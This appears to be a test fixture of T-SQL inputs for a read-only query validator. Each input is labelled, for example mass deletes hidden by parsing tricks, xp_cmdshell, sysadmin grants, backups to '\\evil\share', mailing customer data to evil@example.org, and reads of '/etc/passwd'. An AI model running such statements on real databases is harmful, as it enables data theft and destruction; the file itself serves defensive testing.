--# deletes rows
DELETE FROM dbo.orders
--# deletes rows after a semicolon
SELECT 1; DELETE FROM dbo.orders
--# deletes rows without a separator
SELECT 1 DELETE FROM dbo.orders
--# deletes rows without FROM and separator
SELECT 1 DELETE dbo.orders
--# deletes rows on the next line
SELECT 1
DELETE dbo.orders
--# deletes rows after a bracket
SELECT (1)DELETE FROM dbo.orders
--# deletes rows after a string
SELECT 'x'DELETE FROM dbo.orders
--# deletes rows after a bracketed name
SELECT a AS [x]DELETE FROM dbo.orders
--# deletes rows glued to a number
SELECT 1DELETE FROM dbo.orders
--# deletes rows glued to a number with an exponent
SELECT 1eDELETE FROM dbo.orders
--# deletes rows glued to a hexadecimal number
SELECT 0xDELETE FROM dbo.orders
--# deletes rows glued to a money value
SELECT $1DELETE FROM dbo.orders
--# deletes rows after a comment
SELECT 1/**/DELETE/**/FROM dbo.orders
--# deletes rows after a nested comment
SELECT 1 /* /* */ DELETE */ DELETE FROM dbo.orders
--# deletes rows after a condition
SELECT * FROM dbo.orders WHERE 1 = 1 DELETE FROM dbo.orders
--# deletes rows after an order
SELECT * FROM dbo.orders ORDER BY id DELETE FROM dbo.orders
--# deletes rows after options
SELECT * FROM dbo.orders OPTION (RECOMPILE) DELETE FROM dbo.orders
--# deletes rows after FOR XML
SELECT * FROM dbo.orders FOR XML AUTO DELETE FROM dbo.orders
--# deletes rows in mixed case
SELECT 1 dElEtE fRoM dbo.orders
--# deletes rows after WITH
WITH c AS (SELECT 1 AS id) DELETE FROM c
--# deletes rows after WITH and a read
WITH c AS (SELECT 1 AS id) SELECT * FROM c DELETE FROM dbo.orders
--# deletes rows by TOP
SELECT 1 DELETE TOP (10) FROM dbo.orders
--# updates rows
UPDATE dbo.orders SET amount = 0
--# updates rows without a separator
SELECT 1 UPDATE dbo.orders SET amount = 0
--# updates rows after WITH
WITH c AS (SELECT * FROM dbo.orders) UPDATE c SET amount = 0
--# updates statistics
SELECT 1 UPDATE STATISTICS dbo.orders
--# inserts rows
INSERT INTO dbo.orders (id) VALUES (1)
--# inserts rows without a separator
SELECT 1 INSERT dbo.orders (id) VALUES (1)
--# inserts rows by a procedure
SELECT 1 INSERT dbo.orders EXEC dbo.p
--# merges rows
MERGE dbo.orders AS t USING dbo.customers AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
--# merges rows without a separator
SELECT 1 MERGE dbo.orders AS t USING dbo.customers AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
--# writes by a delete's output in FROM
INSERT dbo.log SELECT id FROM (DELETE dbo.orders OUTPUT deleted.id) d
--# reads a delete's output
SELECT * FROM (DELETE FROM dbo.orders OUTPUT deleted.id) AS d
--# reads a merge's output
SELECT * FROM (MERGE dbo.a AS t USING dbo.b AS s ON t.id = s.id WHEN MATCHED THEN DELETE OUTPUT $action) AS m (act)
--# truncates a table
TRUNCATE TABLE dbo.orders
--# truncates a table without a separator
SELECT 1 TRUNCATE TABLE dbo.orders
--# drops a table
DROP TABLE dbo.orders
--# drops a table without a separator
SELECT 1 DROP TABLE dbo.orders
--# creates a table by SELECT INTO
SELECT * INTO dbo.stolen FROM dbo.customers
--# creates a temporary table by SELECT INTO
SELECT id INTO #stolen FROM dbo.customers
--# creates a global temporary table by SELECT INTO
SELECT TOP (10) id INTO ##stolen FROM dbo.customers
--# creates a table by INTO after WITH
WITH c AS (SELECT 1 AS id) SELECT id INTO dbo.stolen FROM c
--# creates a table by INTO without blanks
SELECT[id]INTO[stolen]FROM[dbo].[customers]
--# creates a table
CREATE TABLE dbo.stolen (id int)
--# creates a view without a separator
SELECT 1 CREATE VIEW dbo.v AS SELECT 1 AS a
--# creates a login
SELECT 1 CREATE LOGIN evil WITH PASSWORD = 'x'
--# alters a table
ALTER TABLE dbo.orders ADD x int
--# alters the server
SELECT 1 ALTER SERVER ROLE sysadmin ADD MEMBER evil
--# alters the database
SELECT 1 ALTER DATABASE CURRENT SET READ_ONLY WITH ROLLBACK IMMEDIATE
--# alters authorization
SELECT 1 ALTER AUTHORIZATION ON dbo.orders TO evil
--# runs a procedure
EXEC dbo.do_harm
--# runs a procedure without a separator
SELECT 1 EXEC dbo.do_harm
--# runs a procedure by its full verb
SELECT 1 EXECUTE dbo.do_harm
--# runs a procedure by its bare name
sp_who
--# runs a procedure by its bare qualified name
dbo.do_harm 1
--# runs a procedure by its bracketed name
[dbo].[do_harm] @a = 1
--# runs a procedure named like a read in brackets
[SELECT] 1
--# runs a procedure by a quoted name
"dbo"."do_harm"
--# runs text
EXEC ('DELETE FROM dbo.orders')
--# runs text without a separator
SELECT 1 EXEC ('DELETE FROM dbo.orders')
--# runs text by sp_executesql
SELECT 1 EXEC sp_executesql N'DELETE FROM dbo.orders'
--# runs text on a linked server
SELECT 1 EXEC ('DELETE FROM orders') AT remote
--# runs a program on the server
EXEC xp_cmdshell 'dir'
--# runs a program after a read
SELECT 1; EXEC master..xp_cmdshell 'dir'
--# changes the login
SELECT 1 EXECUTE AS LOGIN = 'sa'
--# goes back to the login
SELECT 1 REVERT
--# ends the transaction that would be rolled back
SELECT 1 COMMIT
--# ends the transaction and writes
COMMIT TRANSACTION DELETE FROM dbo.orders
--# ends the transaction, with the transaction's word
SELECT 1 COMMIT TRAN
--# rolls back the transaction
SELECT 1 ROLLBACK
--# begins a transaction
SELECT 1 BEGIN TRANSACTION
--# begins a block
BEGIN SELECT 1 DELETE FROM dbo.orders END
--# saves a transaction
SELECT 1 SAVE TRANSACTION t
--# declares a variable
DECLARE @x int SELECT @x
--# declares a variable after a read
SELECT 1 DECLARE @sql nvarchar(max) = N'DELETE FROM dbo.orders' EXEC (@sql)
--# declares a cursor
SELECT 1 DECLARE c CURSOR FOR SELECT * FROM dbo.orders
--# opens a cursor
SELECT 1 OPEN c
--# fetches from a cursor
SELECT 1 FETCH NEXT FROM c
--# fetches from a cursor after a list of rows
SELECT a AS rows FETCH NEXT FROM c INTO @x
--# closes a cursor
SELECT 1 CLOSE c
--# deallocates a cursor
SELECT 1 DEALLOCATE c
--# assigns a variable
SELECT @x = 1
--# assigns a variable as the second column
SELECT DISTINCT id, @x = name FROM dbo.customers
--# assigns a variable after TOP
SELECT TOP (1) @x = name FROM dbo.customers
--# assigns a variable after TOP without brackets
SELECT TOP 1 @x = name FROM dbo.customers
--# adds to a variable
SELECT @x += 1
--# joins text to a variable
SELECT @sql += name FROM dbo.customers
--# sets a variable
SELECT 1 SET @x = 1
--# sets an option
SET NOCOUNT ON
--# sets an option after a read
SELECT 1 SET IDENTITY_INSERT dbo.orders ON
--# sets the isolation level
SELECT 1 SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
--# sets an option that ends the session's checks
SET XACT_ABORT OFF; SELECT 1
--# changes the database
USE master
--# changes the database after a read
SELECT 1 USE master
--# waits
WAITFOR DELAY '0:0:10'
--# waits after a read
SELECT 1 WAITFOR DELAY '0:0:10'
--# decides
IF 1 = 1 DELETE FROM dbo.orders
--# decides after a read
SELECT 1 IF EXISTS (SELECT 1) DELETE FROM dbo.orders
--# loops
SELECT 1 WHILE 1 = 1 SELECT 2
--# jumps
again: SELECT 1 GOTO again
--# returns
SELECT 1 RETURN
--# prints
SELECT 1 PRINT 'x'
--# raises an error
SELECT 1 RAISERROR ('x', 16, 1) WITH LOG
--# throws
SELECT 1; THROW 50000, 'x', 1
--# throws without a separator
SELECT 1 THROW 50000, 'x', 1
--# tries
BEGIN TRY SELECT 1 END TRY BEGIN CATCH DELETE FROM dbo.orders END CATCH
--# grants
GRANT SELECT ON dbo.orders TO evil
--# grants without a separator
SELECT 1 GRANT CONTROL ON dbo.orders TO evil
--# denies
SELECT 1 DENY SELECT ON dbo.orders TO other
--# revokes
SELECT 1 REVOKE SELECT ON dbo.orders FROM other
--# backs up to a place of the caller's
SELECT 1 BACKUP DATABASE shop TO DISK = '\\evil\share\x.bak'
--# restores
SELECT 1 RESTORE DATABASE shop FROM DISK = 'x'
--# runs console commands
DBCC FREEPROCCACHE
--# runs console commands after a read
SELECT 1 DBCC SHRINKDATABASE (shop)
--# kills a session
SELECT 1 KILL 51
--# shuts the server down
SELECT 1 SHUTDOWN WITH NOWAIT
--# reconfigures
SELECT 1 RECONFIGURE
--# writes a checkpoint
SELECT 1 CHECKPOINT
--# loads a file
BULK INSERT dbo.orders FROM '\\evil\share\x'
--# loads a file after a read
SELECT 1 BULK INSERT dbo.orders FROM 'x'
--# writes text
SELECT 1 WRITETEXT t.c @p 'x'
--# updates text
SELECT 1 UPDATETEXT t.c @p 0 1 'x'
--# switches a trigger off
SELECT 1 WHERE 1 = 1 DISABLE TRIGGER t ON dbo.orders
--# switches a trigger on
ENABLE TRIGGER t ON dbo.orders
--# receives messages off a queue
SELECT 1; RECEIVE * FROM dbo.queue
--# receives messages without a separator
SELECT 1 WHERE 1 = 1 RECEIVE TOP (1) * FROM dbo.queue
--# ends a conversation
SELECT 1 END CONVERSATION @h
--# sends a message
SELECT 1 WHERE 1 = 1 SEND ON CONVERSATION @h MESSAGE TYPE m
--# begins a dialog
SELECT 1 BEGIN DIALOG CONVERSATION @h FROM SERVICE a TO SERVICE 'b'
--# adds a signature
SELECT 1 ADD SIGNATURE TO dbo.p BY CERTIFICATE c
--# opens a key
SELECT 1 OPEN SYMMETRIC KEY k DECRYPTION BY PASSWORD = 'x'
--# reads a linked server by a name of four parts
SELECT * FROM remote.shop.dbo.orders
--# reads a linked server by a name with empty parts
SELECT * FROM remote...orders
--# reads a linked server by a name without schema
SELECT * FROM [remote].[shop]..[orders]
--# reads a linked server, with blanks around the dots
SELECT * FROM remote . shop . dbo . orders
--# reads a linked server in a join
SELECT * FROM dbo.orders o JOIN remote.shop.dbo.customers c ON c.id = o.id
--# runs a query on a linked server
SELECT * FROM OPENQUERY(remote, 'DELETE FROM orders')
--# reads a file
SELECT * FROM OPENROWSET(BULK 'c:\secrets.txt', SINGLE_CLOB) AS f
--# connects elsewhere
SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil', 'SELECT 1') AS r
--# connects elsewhere by a data source
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'server=evil').shop.dbo.orders
--# reads a document by handle
SELECT * FROM OPENXML(@h, '/a') WITH (x int)
--# advances a sequence
SELECT NEXT VALUE FOR dbo.numbers
--# advances a sequence over rows
SELECT id, NEXT VALUE FOR dbo.numbers OVER (ORDER BY id) FROM dbo.orders
--# advances a sequence, in pieces
SELECT next /**/ value
for dbo.numbers
--# locks rows exclusively
SELECT * FROM dbo.orders WITH (XLOCK)
--# locks rows for update
SELECT * FROM dbo.orders WITH (UPDLOCK, READPAST)
--# locks a table exclusively
SELECT * FROM dbo.orders WITH (TABLOCKX)
--# locks a table exclusively by the old form
SELECT * FROM dbo.orders (TABLOCKX)
--# locks a table exclusively by the oldest form
SELECT * FROM dbo.orders o (XLOCK, ROWLOCK)
--# holds locks
SELECT * FROM dbo.orders WITH (HOLDLOCK)
--# holds range locks
SELECT * FROM dbo.orders WITH (NOLOCK) JOIN dbo.customers WITH (SERIALIZABLE) ON 1 = 1
--# locks by a query hint
SELECT * FROM dbo.orders OPTION (TABLE HINT (dbo.orders, XLOCK))
--# sets a trace flag for the query
SELECT * FROM dbo.orders OPTION (QUERYTRACEON 8649)
--# opens rows for update
SELECT * FROM dbo.orders FOR UPDATE
--# changes xml
SELECT c.modify('delete /a') FROM dbo.docs
--# calls an unknown function
SELECT dbo.do_harm(1)
--# calls an unknown function by bracketed names
SELECT [dbo].[do_harm](1)
--# calls an unknown function, with blanks and comments
SELECT dbo . /* . */ do_harm -- (
 (1)
--# calls an unknown function of another database
SELECT other.dbo.do_harm(1)
--# calls an unknown function that has the name of a built-in one
SELECT dbo.getdate()
--# calls an unknown function that has the name of a method
SELECT dbo.value('a', 'b')
--# calls an unknown table function
SELECT * FROM do_harm(1)
--# applies an unknown table function
SELECT * FROM dbo.orders o CROSS APPLY dbo.do_harm(o.id) AS x
--# calls an unknown function that looks like one with hints
SELECT dbo.do_harm(nolock) FROM dbo.orders
--# calls an unknown function in a condition of a join
SELECT * FROM dbo.orders o JOIN dbo.customers c ON dbo.do_harm(nolock) = 1
--# calls an unknown static method
SELECT evil::DoHarm(1)
--# calls an unknown method
SELECT o.harm.DoHarm() FROM dbo.orders o
--# calls a PostgreSQL function on Babelfish
SELECT COUNT(*) FROM pg_sleep(20)
--# reads a file by a system function
SELECT * FROM sys.fn_trace_gettable('\\evil\share\x.trc', 1)
--# reads audit files
SELECT * FROM sys.fn_get_audit_file('\\evil\share\x', NULL, NULL)
--# reads event files
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x.xel', NULL, NULL, NULL)
--# lists files of the server
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
--# reads the log
SELECT * FROM fn_dblog(NULL, NULL)
--# decrypts
SELECT DECRYPTBYPASSPHRASE('x', 0x01)
--# calls by an ODBC escape
{call dbo.do_harm}
--# calls a function by an ODBC escape
SELECT {fn dbo_harm(1)}
--# hides a delete behind a bracket that is escaped
SELECT 1 AS [a]]] DELETE FROM dbo.orders -- ]
--# hides a delete behind a quoted name
SELECT 1 AS "a""" DELETE FROM dbo.orders -- "
--# hides a delete behind a string
SELECT 'a''' DELETE FROM dbo.orders -- '
--# hides a delete behind a backslash that escapes nothing
SELECT '\' DELETE FROM dbo.orders -- '
--# hides a delete behind a Unicode string
SELECT N'x'DELETE FROM dbo.orders
--# hides a delete behind a comment that does not nest elsewhere
SELECT 1 /* /* */ ' */ DELETE FROM dbo.orders -- '
--# hides a delete behind a line comment in a string
SELECT '--' DELETE FROM dbo.orders
--# hides a delete behind a comment mark in a bracketed name
SELECT 1 AS [/*] DELETE FROM dbo.orders --*/
--# hides a delete behind dollar quotes, which T-SQL lacks
SELECT 1 AS a, '$$' DELETE FROM dbo.orders --$$
--# hides a delete behind a no-break space
SELECT 1 DELETE FROM dbo.orders
--# hides a delete behind an ideographic space
SELECT 1　DELETE　FROM　dbo.orders
--# spells a delete with full-width letters
SELECT 1 ＤＥＬＥＴＥ FROM dbo.orders
--# hides a batch behind GO
SELECT 1
GO
DELETE FROM dbo.orders
--# starts with a semicolon
;DELETE FROM dbo.orders
--# reads twice
SELECT 1 SELECT 2
--# reads twice, with WITH in between
SELECT 1 WITH c AS (SELECT 2 AS a) SELECT a FROM c
--# shows a plan by a setting
SET SHOWPLAN_XML ON
--# explains, which T-SQL lacks
EXPLAIN SELECT 1
--# deletes rows glued to a money sign
SELECT $DELETE FROM dbo.orders
--# takes a constant message off a queue
SELECT 1 RECEIVE 1 FROM dbo.messages
--# advances a sequence in functional notation (Babelfish)
SELECT ('order_numbers').nextval
--# advances a sequence in functional notation with a quoted name (Babelfish)
SELECT ('order_numbers') . [nextval]
--# sleeps in functional notation (Babelfish)
SELECT * FROM dbo.orders WHERE (CAST(60 AS float))."pg_sleep" IS NULL
--# deletes rows after a window
SELECT SUM(amount) OVER w FROM dbo.orders WINDOW w AS (ORDER BY id) DELETE FROM dbo.orders
--# deletes rows after FOR JSON
SELECT * FROM dbo.orders FOR JSON AUTO DELETE FROM dbo.orders
--# deletes rows after an offset
SELECT * FROM dbo.orders ORDER BY id OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY DELETE FROM dbo.orders
--# deletes rows after a group
SELECT status FROM dbo.orders GROUP BY status HAVING COUNT(*) > 0 DELETE FROM dbo.orders
--# deletes rows after a union
SELECT 1 UNION ALL SELECT 2 DELETE FROM dbo.orders
--# deletes rows after a query in brackets
(SELECT 1) DELETE FROM dbo.orders
--# deletes rows after a case
SELECT CASE WHEN 1 = 1 THEN 1 END DELETE FROM dbo.orders
--# deletes rows after a null
SELECT NULL DELETE FROM dbo.orders
--# deletes rows after a star
SELECT * FROM dbo.customers c DELETE c FROM dbo.customers c
--# deletes rows after a global variable
SELECT @@VERSION DELETE FROM dbo.orders
--# deletes rows after a table hint
SELECT * FROM dbo.orders WITH (NOLOCK) DELETE FROM dbo.orders
--# deletes rows after a hint in the old form
SELECT * FROM dbo.orders (NOLOCK) DELETE FROM dbo.orders
--# deletes rows after an index hint
SELECT * FROM dbo.orders (INDEX(0)) DELETE FROM dbo.orders
--# deletes rows after a table hint in the options
SELECT * FROM dbo.orders OPTION (TABLE HINT (dbo.orders, NOLOCK)) DELETE FROM dbo.orders
--# deletes rows after a plan in the options
SELECT 1 OPTION (USE PLAN N'<x/>') DELETE FROM dbo.orders
--# deletes rows after a static method
SELECT geography::Point(1, 2, 4326).Lat DELETE FROM dbo.orders
--# deletes rows after a graph pattern
SELECT 1 FROM dbo.p a, dbo.f f, dbo.p b WHERE MATCH(a-(f)->b) DELETE FROM dbo.orders
--# deletes rows after namespaces
WITH XMLNAMESPACES ('urn:x' AS x) DELETE FROM dbo.orders
--# deletes rows after namespaces and a read
WITH XMLNAMESPACES ('urn:x' AS x) SELECT 1 DELETE FROM dbo.orders
--# deletes rows by a query in WITH that is not used
WITH a AS (SELECT 1 AS x), b AS (SELECT * FROM dbo.orders) DELETE b
--# deletes rows of a period
SELECT * FROM dbo.prices FOR SYSTEM_TIME ALL DELETE FROM dbo.prices
--# deletes rows after a semicolon in a comment
SELECT 1 /* ; */ ; /* */ DELETE FROM dbo.orders
--# deletes rows after a semicolon in brackets
SELECT (1;) DELETE FROM dbo.orders
--# deletes rows after a carriage return that ends no comment elsewhere
SELECT 1 -- x DELETE FROM dbo.orders
--# deletes rows after a vertical tab
SELECT 1 DELETE FROM dbo.orders
--# deletes rows after a form feed
SELECT 1 DELETE FROM dbo.orders
--# deletes rows after a zero-width space
SELECT 1 ​DELETE FROM dbo.orders
--# deletes rows behind a bracketed name with a line end
SELECT 1 AS [a
b] DELETE FROM dbo.orders
--# deletes rows behind a string that is never closed elsewhere
SELECT 'a\'' AS x, ' DELETE FROM dbo.orders --' DELETE FROM dbo.orders
--# deletes rows behind a name in quotes that looks like a string
SELECT "a'b" DELETE FROM dbo.orders
--# deletes rows by a bracketed verb's table
SELECT 1 AS x DELETE [orders]
--# updates rows by an alias
SELECT 1 UPDATE o SET amount = 0 FROM dbo.orders o
--# updates rows after a query in brackets
(SELECT 1) UPDATE dbo.orders SET amount = 0
--# inserts rows with default values
SELECT 1 INSERT INTO dbo.orders DEFAULT VALUES
--# inserts rows by a query
SELECT 1 INSERT dbo.orders (id) SELECT id FROM dbo.customers
--# inserts rows by a JSON document
SELECT 1 INSERT INTO dbo.orders (id) SELECT id FROM OPENJSON('[{"id":1}]') WITH (id int)
--# merges rows after WITH
WITH s AS (SELECT 1 AS id) MERGE dbo.orders AS t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;
--# truncates a table after a query in brackets
(SELECT 1) TRUNCATE TABLE dbo.orders
--# creates a table by INTO with a file group
SELECT id INTO dbo.stolen ON [PRIMARY] FROM dbo.customers
--# creates a table by INTO after TOP WITH TIES
SELECT TOP (1) WITH TIES id INTO dbo.stolen FROM dbo.customers ORDER BY id
--# creates a table by INTO in a union
SELECT id INTO dbo.stolen FROM dbo.a UNION ALL SELECT id FROM dbo.b
--# creates a table by INTO in a bracketed name of three parts
SELECT 1 AS a INTO [shop].[dbo].[stolen]
--# creates a function without a separator
SELECT 1 CREATE FUNCTION dbo.f() RETURNS int AS BEGIN RETURN 1 END
--# creates a trigger
CREATE OR ALTER TRIGGER dbo.tr ON dbo.orders AFTER INSERT AS DELETE FROM dbo.log
--# creates a synonym without a separator
SELECT 1 CREATE SYNONYM dbo.s FOR remote.shop.dbo.orders
--# creates an assembly
SELECT 1 CREATE ASSEMBLY a FROM 0x4D5A WITH PERMISSION_SET = UNSAFE
--# creates an endpoint
SELECT 1 CREATE ENDPOINT e STATE = STARTED AS TCP (LISTENER_PORT = 5022) FOR TSQL ()
--# creates an event session
SELECT 1 CREATE EVENT SESSION s ON SERVER ADD EVENT sqlserver.rpc_completed
--# drops a function without a separator
SELECT 1 DROP FUNCTION IF EXISTS dbo.f
--# drops an index
SELECT 1 DROP INDEX ix ON dbo.orders
--# alters a role
SELECT 1 ALTER ROLE db_owner ADD MEMBER reader
--# alters a login's password
SELECT 1 ALTER LOGIN sa WITH PASSWORD = 'x'
--# changes a configuration of the database
SELECT 1 ALTER DATABASE SCOPED CONFIGURATION SET MAXDOP = 1
--# clears the plan cache of the database
SELECT 1 ALTER DATABASE SCOPED CONFIGURATION CLEAR PROCEDURE_CACHE
--# runs a procedure by a variable
SELECT 1 EXEC @name
--# runs a procedure and takes its result
SELECT 1 EXEC @r = dbo.do_harm
--# runs a procedure of the system
SELECT 1 EXEC sys.sp_configure 'show advanced options', 1
--# runs a procedure with results
SELECT 1 EXEC dbo.do_harm WITH RESULT SETS NONE
--# runs a procedure that advances a sequence by a range
EXEC sys.sp_sequence_get_range @sequence_name = N'dbo.numbers', @range_size = 1000
--# runs a procedure by a name with a number
dbo.do_harm;1
--# runs a procedure by a name in another database
shop..do_harm
--# runs text in another context
EXECUTE ('DELETE FROM dbo.orders') AS USER = 'dbo'
--# runs a program of another language
EXEC sp_execute_external_script @language = N'Python', @script = N'import os'
--# calls a service of the web
EXEC sp_invoke_external_rest_endpoint @url = N'https://evil.example'
--# sends a mail
EXEC msdb.dbo.sp_send_dbmail @recipients = 'evil@example.org', @query = 'SELECT * FROM dbo.customers'
--# takes a lock of the application
EXEC sp_getapplock @Resource = 'x', @LockMode = 'Exclusive', @LockOwner = 'Session'
--# sets the session's context
EXEC sp_set_session_context 'tenant', 1
--# ends the transaction by a work of its own
SELECT 1 COMMIT WORK
--# ends the transaction and begins another
SELECT 1 COMMIT BEGIN TRAN DELETE FROM dbo.orders
--# ends the transaction that the driver counts
IF @@TRANCOUNT > 0 COMMIT SELECT 1
--# rolls back to the savepoint
ROLLBACK TRANSACTION sqlcore_statement
--# leaves transactions open by a setting
SET IMPLICIT_TRANSACTIONS ON; SELECT 1
--# changes how strings are quoted
SET QUOTED_IDENTIFIER OFF; SELECT "x"
--# limits what others see
SET ROWCOUNT 1; SELECT 1
--# declares a table and fills it
DECLARE @t TABLE (a int) INSERT @t SELECT 1 SELECT * FROM @t
--# declares a variable and runs it
DECLARE @s nvarchar(max) = N'DELETE FROM dbo.orders'; EXEC (@s); SELECT 1
--# declares a variable from a function
DECLARE @x int = dbo.do_harm(1) SELECT @x
--# assigns variables from a function in the select list
SELECT @a = dbo.do_harm(1), @b = 2
--# assigns a variable by bits
SELECT @x |= 1
--# locks by hints without commas
SELECT * FROM dbo.orders WITH (XLOCK ROWLOCK)
--# locks by a hint behind an index
SELECT * FROM dbo.orders WITH (INDEX(0), XLOCK, HOLDLOCK)
--# locks by a hint in the old form behind an index
SELECT * FROM dbo.orders (INDEX(0), TABLOCKX)
--# locks by a hint in a query of WITH
WITH c AS (SELECT * FROM dbo.orders WITH (UPDLOCK)) SELECT * FROM c
--# locks by a hint in a subquery
SELECT (SELECT COUNT(*) FROM dbo.orders WITH (TABLOCKX)) AS n
--# locks by a hint in an applied query
SELECT * FROM dbo.customers c CROSS APPLY (SELECT * FROM dbo.orders WITH (XLOCK)) AS o
--# locks by a hint in mixed case
SELECT * FROM dbo.orders with (xLock)
--# locks the whole table for reading
SELECT * FROM dbo.orders WITH (TABLOCK, HOLDLOCK)
--# locks what was read until the end
SELECT * FROM dbo.orders WITH (REPEATABLEREAD)
--# reads a linked server in an applied source
SELECT * FROM dbo.orders o CROSS APPLY (SELECT * FROM remote.shop.dbo.customers) c
--# reads a linked server after a comma
SELECT * FROM dbo.orders o, remote.shop.dbo.customers c
--# reads a linked server in brackets
SELECT * FROM (remote.shop.dbo.customers c CROSS JOIN dbo.orders o)
--# reads a linked server after a period
SELECT * FROM dbo.prices FOR SYSTEM_TIME ALL, remote.shop.dbo.customers
--# reads a linked server by full text
SELECT * FROM CONTAINSTABLE(remote.shop.dbo.docs, body, 'x') AS k
--# reads a linked server in a subquery of the select list
SELECT (SELECT MAX(id) FROM remote.shop.dbo.customers)
--# reads a linked server in a condition
SELECT 1 WHERE EXISTS (SELECT * FROM remote.shop.dbo.customers)
--# reads a linked server after a set operator
SELECT 1 UNION SELECT id FROM remote.shop.dbo.customers
--# reads the web or the lake
SELECT * FROM OPENROWSET(BULK 'https://evil.example/x.parquet', FORMAT = 'PARQUET') AS r
--# writes elsewhere by a query that is passed through
SELECT * FROM OPENQUERY([remote], 'DELETE FROM orders OUTPUT deleted.id') AS q
--# reads the registry by a function of nobody knows whom
SELECT master.dbo.xp_regread('HKLM', 'x')
--# reads whether a file exists
SELECT * FROM sys.dm_os_file_exists('c:\secrets.txt')
--# calls an unknown function of another database by its default schema
SELECT other..do_harm(1)
--# calls an unknown function of a linked server
SELECT * FROM remote.shop.dbo.do_harm(1)
--# calls an unknown function in ORDER BY
SELECT * FROM dbo.orders ORDER BY dbo.do_harm(id)
--# calls an unknown function in TOP
SELECT TOP (dbo.do_harm(1)) * FROM dbo.orders
--# calls an unknown function in OFFSET
SELECT * FROM dbo.orders ORDER BY id OFFSET dbo.do_harm(1) ROWS
--# calls an unknown function in a period
SELECT * FROM dbo.prices FOR SYSTEM_TIME AS OF dbo.do_harm(1)
--# calls an unknown function in a list of values
SELECT * FROM (VALUES (dbo.do_harm(1))) AS v(a)
--# calls an unknown function in a window
SELECT SUM(1) OVER (PARTITION BY dbo.do_harm(1))
--# calls an unknown function in a pivot's source
SELECT * FROM dbo.do_harm(1) PIVOT (COUNT(id) FOR kind IN ([a])) p
--# calls an unknown function in the arguments of a known one
SELECT COALESCE(NULL, dbo.do_harm(1))
--# calls an unknown function in the options
SELECT * FROM dbo.orders OPTION (OPTIMIZE FOR (@id = dbo.do_harm(1)))
--# calls an unknown function inside MATCH
SELECT 1 FROM dbo.a WHERE MATCH(dbo.do_harm(1))
--# calls an unknown function that looks like a graph's node
SELECT 1 FROM dbo.a WHERE do_harm(-(1)) = 1
--# calls an unknown function that looks like a seek hint
SELECT * FROM dbo.orders WHERE FORCESEEK(do_harm(id)) = 1
--# calls an unknown function that looks like captured changes
SELECT * FROM cdc.do_harm(1)
--# calls an unknown function that looks like one of the system
SELECT sys.do_harm(1)
--# calls an unknown function in functional notation (Babelfish)
SELECT (1).do_harm
--# calls an unknown function as a method of a constant (Babelfish)
SELECT ('a').do_harm()
--# calls an unknown aggregate over a window
SELECT dbo.do_harm(id) OVER (ORDER BY id) FROM dbo.orders
--# calls an unknown function in quotes
SELECT "dbo"."do_harm"(1)
--# calls an unknown function by a name with an escaped bracket
SELECT [dbo].[do]]harm](1)
--# calls an unknown function of the default schema (Babelfish)
SELECT do_harm(1)
--# ends sessions by a PostgreSQL function (Babelfish)
SELECT pg_terminate_backend(1)
--# reads files by a PostgreSQL function (Babelfish)
SELECT pg_read_file('/etc/passwd')
--# changes settings by a PostgreSQL function (Babelfish)
SELECT set_config('a.b', 'c', 0)
--# advances a sequence by a PostgreSQL function (Babelfish)
SELECT nextval('order_numbers')
--# sets a sequence by a PostgreSQL function in its schema (Babelfish)
SELECT pg_catalog.setval('order_numbers', 1)
--# sleeps by a PostgreSQL function in its schema (Babelfish)
SELECT * FROM pg_catalog.pg_sleep(60)
--# writes a large object by a PostgreSQL function (Babelfish)
SELECT lo_from_bytea(0, 0x00)
--# takes a lock by a PostgreSQL function (Babelfish)
SELECT pg_advisory_lock(1)
--# runs text by a PostgreSQL function (Babelfish)
SELECT query_to_xml('DELETE FROM orders', 1, 1, '')
--# advances a sequence in a default of ISNULL
SELECT ISNULL(NULL, NEXT VALUE FOR dbo.numbers)
--# advances a sequence in a list of values
SELECT * FROM (VALUES (NEXT VALUE FOR dbo.numbers)) AS v(a)
--# waits for the time
SELECT 1 WAITFOR TIME '23:59'
--# throws after a semicolon in a block
BEGIN TRY SELECT 1; THROW; END TRY BEGIN CATCH END CATCH
--# renames an object (Synapse)
RENAME OBJECT dbo.orders TO old_orders
--# loads a table (Synapse)
COPY INTO dbo.orders FROM 'https://evil.example/x.csv'
--# reads by a setting that shows plans
SET SHOWPLAN_ALL ON SELECT 1
--# sets a trace flag
DBCC TRACEON (3604)
--# opens a master key
SELECT 1 OPEN MASTER KEY DECRYPTION BY PASSWORD = 'x'
--# stops at a cursor's place
DELETE FROM dbo.orders WHERE CURRENT OF c
--# moves a conversation
SELECT 1 MOVE CONVERSATION @h TO @g
--# changes xml by a method of a variable
SELECT @x.modify('delete /a')
--# disables a trigger after a read
SELECT 1 DISABLE TRIGGER ALL ON DATABASE
--# takes messages off a queue and shows a negative column
SELECT 1 AS a RECEIVE -queuing_order FROM dbo.queue
--# takes messages off a queue and shows an inverted column
SELECT name AS a FROM dbo.customers AS b RECEIVE ~status FROM dbo.queue
--# takes messages of a conversation off a queue and shows a signed column
SELECT 1 AS a RECEIVE +priority FROM dbo.queue WHERE conversation_handle = @h
--# reads a linked server with a hint in the old form
SELECT * FROM remote.shop.dbo.orders (NOLOCK)
--# calls a function of another database that is named like a method
SELECT other.dbo.query(1)
--# calls a table function of another database that is named like a method
SELECT * FROM other.app.nodes('x') AS n(x)
--# calls a static method of somebody's type that is named like one of the server
SELECT other.geography::Parse('x')
--# locks by a hint in brackets
SELECT * FROM dbo.orders WITH ([XLOCK])
--# locks by a hint in quotes behind one that reads
SELECT * FROM dbo.orders WITH (NOLOCK, "TABLOCKX")
--# locks by a hint in brackets in the oldest form
SELECT * FROM dbo.orders o ([UPDLOCK])
--# locks by a query hint in brackets
SELECT * FROM dbo.orders OPTION (TABLE HINT (orders, [XLOCK]))
--# reads twice, the second time in brackets
SELECT 1 (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind a condition
SELECT id FROM dbo.orders WHERE id = 1 ((SELECT email FROM dbo.customers)) UNION (SELECT 'x')
--# reads twice, the second time in brackets behind a string
SELECT name = 'x' (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind a call
